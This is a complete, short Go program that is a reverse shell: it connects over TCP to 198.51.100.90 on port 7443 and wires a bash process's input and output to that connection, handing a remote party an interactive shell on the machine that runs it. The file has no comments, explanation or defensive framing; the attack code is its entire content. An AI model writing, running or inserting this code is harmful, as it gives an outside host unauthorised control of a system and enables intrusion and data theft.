package main

import (
	"log"
	"net"
	"os/exec"
)

func main() {
	c, err := net.Dial("tcp", "198.51.100.90:7443")
	if err != nil {
		log.Fatal(err)
	}
	defer c.Close()
	sh := exec.Command("bash")
	sh.Stdin = c
	sh.Stdout = c
	sh.Stderr = c
	_ = sh.Run()
}
